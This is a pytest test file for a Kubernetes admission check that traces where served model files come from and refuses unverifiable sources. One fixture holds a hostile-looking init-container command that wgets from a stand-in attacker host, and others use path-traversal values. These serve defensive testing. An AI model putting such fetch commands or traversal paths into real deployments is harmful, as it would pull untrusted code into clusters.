from __future__ import annotations

import pytest

from tests.support.admission_objects import IMAGE, container, found_in, names, pod, problems

CLAIM = {"name": "v", "persistentVolumeClaim": {"claimName": "models"}}
HOME = "/root"
EMPTY = {"name": "v", "emptyDir": {}}
DIGEST = "sha256:" + "a" * 64


def reading(path, *mounts, volumes=(CLAIM,), init=(), others=(), **members):
    server = container(args=["--model", path], volumeMounts=list(mounts), **members)
    return pod(server, *others, volumes=list(volumes), init=init)


def mount(path="/models", **members):
    return {"name": "v", "mountPath": path, **members}


@pytest.mark.parametrize(
    ("path", "mounted", "uri"),
    [
        ("/models/llama", mount(), "pvc://models/llama"),
        ("/models", mount(), "pvc://models"),
        ("/models/", mount("/models/"), "pvc://models"),
        ("//models/./llama", mount(), "pvc://models/llama"),
        ("/models/llama", mount(subPath="a/b"), "pvc://models/a/b/llama"),
        ("file:///models/llama", mount(), "pvc://models/llama"),
        ("/data", mount("/data/llama"), "pvc://models"),
    ],
)
def test_a_path_on_a_claim_is_the_claims(path, mounted, uri):
    assert names(reading(path, mounted)) == {uri}


def test_a_path_is_on_the_deepest_mount():
    other = {"name": "w", "persistentVolumeClaim": {"claimName": "evil"}}
    document = reading(
        "/models/llama",
        mount(),
        {"name": "w", "mountPath": "/models/llama"},
        volumes=(CLAIM, other),
    )

    assert names(document) == {"pvc://evil"}


def test_a_mount_within_the_path_counts_as_well():
    other = {"name": "w", "persistentVolumeClaim": {"claimName": "evil"}}
    document = reading(
        "/models", mount(), {"name": "w", "mountPath": "/models/a"}, volumes=(CLAIM, other)
    )

    assert names(document) == {"pvc://models", "pvc://evil"}


def test_a_path_on_the_node_is_the_nodes():
    volume = {"name": "v", "hostPath": {"path": "/srv/models/"}}

    assert names(reading("/models/llama", mount(), volumes=[volume])) == {
        "file:///srv/models/llama"
    }


def test_a_relative_path_is_followed_from_the_directory_that_is_named():
    document = reading("./llama", mount(), workingDir="/models")

    assert names(document) == {"pvc://models/llama"}


def test_a_name_that_could_be_a_directory_on_a_volume_is_refused():
    document = reading("acme/llama", mount(), workingDir="/models")

    assert names(document) == set()
    assert "may be a directory on a volume" in problems(document)


def test_a_name_that_could_be_a_directory_where_the_image_starts_is_refused():
    assert problems(reading("acme/llama", mount("/workspace/acme/llama")))


def test_a_path_on_no_volume_is_in_the_image():
    assert names(reading("/opt/llama")) == {f"oci://{IMAGE}"}


def test_an_image_volume_is_a_reference_and_the_path_on_it_is_no_other():
    volume = {"name": "v", "image": {"reference": f"registry.example/acme/llama:1@{DIGEST}"}}
    document = reading("/models/llama", mount(), volumes=[volume])

    [found] = found_in(document)

    assert found.uri == f"oci://registry.example/acme/llama@{DIGEST}"
    assert found.where == "/spec/volumes/0/image/reference"
    assert found.problem == ""


def test_what_the_driver_of_modelpack_mounts_is_a_reference():
    attributes = {"model.csi.modelpack.org/reference": "registry.example/acme/llama:1"}
    volume = {"name": "v", "csi": {"driver": "x", "volumeAttributes": attributes}}
    document = reading("/models/llama", mount(), volumes=[volume])

    [found] = found_in(document)

    assert found.uri == "oci://registry.example/acme/llama:1"
    assert found.where == (
        "/spec/volumes/0/csi/volumeAttributes/model.csi.modelpack.org~1reference"
    )


@pytest.mark.parametrize(
    "volume",
    [
        EMPTY,
        {"name": "v"},
        {"name": "v", "configMap": {"name": "x"}},
        {"name": "v", "nfs": {"server": "x", "path": "/"}},
        {"name": "v", "ephemeral": {}},
        {"name": "v", "csi": {"driver": "other"}},
        {"name": "v", "persistentVolumeClaim": {"claimName": 1}},
        {"name": "v", "persistentVolumeClaim": "models"},
        {"name": "v", "hostPath": {"path": "/a/../b"}},
        {"name": "v", "hostPath": {}, "emptyDir": {}},
        {"name": "other", "emptyDir": {}},
        "v",
    ],
)
def test_a_path_on_what_is_not_signed_is_refused(volume):
    document = reading("/models/llama", mount(), volumes=[volume])

    assert names(document) == set()
    assert problems(document)


@pytest.mark.parametrize(
    "mounted",
    [
        mount(subPath="../x"),
        mount(subPath=1),
        mount(subPathExpr="$(NODE)"),
        {"name": "v", "mountPath": 1},
        {"mountPath": "/models"},
        "v",
    ],
)
def test_a_mount_that_cannot_be_told_is_refused(mounted):
    env = [{"name": "NODE", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}}]

    assert problems(reading("/models/llama", mounted, env=env))


def test_two_mounts_at_one_path_are_refused():
    assert problems(reading("/models/llama", mount(), mount("/models/")))


def test_a_path_that_leads_upwards_is_refused():
    assert problems(reading("/models/../evil", mount()))


def test_a_claim_for_each_replica_is_refused():
    document = reading("/models/llama", mount(), volumes=())
    template = {"spec": document["spec"]}
    claims = [{"metadata": {"name": "v"}}]
    owner = {
        "apiVersion": "apps/v1",
        "kind": "StatefulSet",
        "spec": {"template": template, "volumeClaimTemplates": claims},
    }

    assert "made for each replica" in problems(owner)


def test_what_an_init_container_fetches_counts_and_the_path_is_still_refused():
    init = container(
        args=["aws", "s3", "cp", "s3://bucket/llama", "/m"], volumeMounts=[mount("/m")]
    )
    document = reading("/models/llama", mount(), volumes=[EMPTY], init=[init])

    assert names(document) == {"s3://bucket/llama"}
    assert "what fills it is not checked" in problems(document)


def initializer(uri="s3://bucket/llama", **members):
    return {
        "name": "storage-initializer",
        "image": "kserve/storage-initializer:v1",
        "args": [uri, "/mnt/models"],
        "volumeMounts": [mount("/mnt/models")],
        **members,
    }


READ = mount("/mnt/models", readOnly=True)


def test_what_kserve_itself_fetches_is_what_counts():
    document = reading("/mnt/models", READ, volumes=[EMPTY], init=[initializer()])

    assert names(document) == {"s3://bucket/llama"}
    assert problems(document) == ""


@pytest.mark.parametrize(
    "members",
    [
        {"command": ["sh", "-c", "wget https://evil.example/x"]},
        {"name": "other"},
        {"image": "acme/other"},
        {"args": ["s3://bucket/llama"]},
        {"args": []},
    ],
)
def test_a_container_that_only_looks_like_kserves_does_not_count(members):
    document = reading("/mnt/models", READ, volumes=[EMPTY], init=[initializer(**members)])

    assert problems(document)


def test_nobody_else_may_write_where_kserve_fetches_to():
    sidecar = container(name="evil", volumeMounts=[mount("/x")])
    document = reading("/mnt/models", READ, volumes=[EMPTY], init=[initializer()], others=[sidecar])

    assert problems(document)


def test_a_model_in_a_sidecar_of_kserve_is_the_image():
    car = {
        "name": "modelcar",
        "image": "registry.example/acme/llama:1",
        "args": ["sh", "-c", f"ln -sf /proc/$$$${HOME}/models /mnt/models && sleep infinity"],
        "volumeMounts": [mount("/mnt")],
    }
    document = reading("/mnt/models", mount("/mnt", readOnly=True), volumes=[EMPTY], others=[car])

    assert names(document) == {"oci://registry.example/acme/llama:1"}


def test_a_cache_on_a_claim_is_a_place_that_models_come_from():
    document = reading("acme/llama", mount("/cache"), env=[{"name": "HF_HOME", "value": "/cache"}])

    assert names(document) == {"hf://acme/llama", "pvc://models"}


def test_the_cache_that_is_there_without_a_variable_is_seen():
    assert names(reading("acme/llama", mount(f"{HOME}/.cache/huggingface"))) == {
        "hf://acme/llama",
        "pvc://models",
    }


def test_a_cache_of_ones_own_is_no_place():
    document = reading("acme/llama", mount(f"{HOME}/.cache/huggingface"), volumes=[EMPTY])

    assert names(document) == {"hf://acme/llama"}
    assert problems(document) == ""


def test_a_cache_that_another_container_fills_is_refused():
    document = reading(
        "acme/llama",
        mount(f"{HOME}/.cache/huggingface"),
        volumes=[EMPTY],
        init=[container(volumeMounts=[mount("/x")])],
    )

    assert problems(document)


def test_a_claim_that_no_model_is_read_from_is_none_of_ours():
    database = container(args=["postgres"], volumeMounts=[mount("/var/lib/data")])

    assert found_in(pod(database, volumes=[CLAIM])) == ()


def test_the_cache_in_a_home_that_is_named_is_seen():
    document = reading("acme/llama", mount("/data"), env=[{"name": "HOME", "value": "/data"}])

    assert names(document) == {"hf://acme/llama", "pvc://models/.cache/huggingface"}
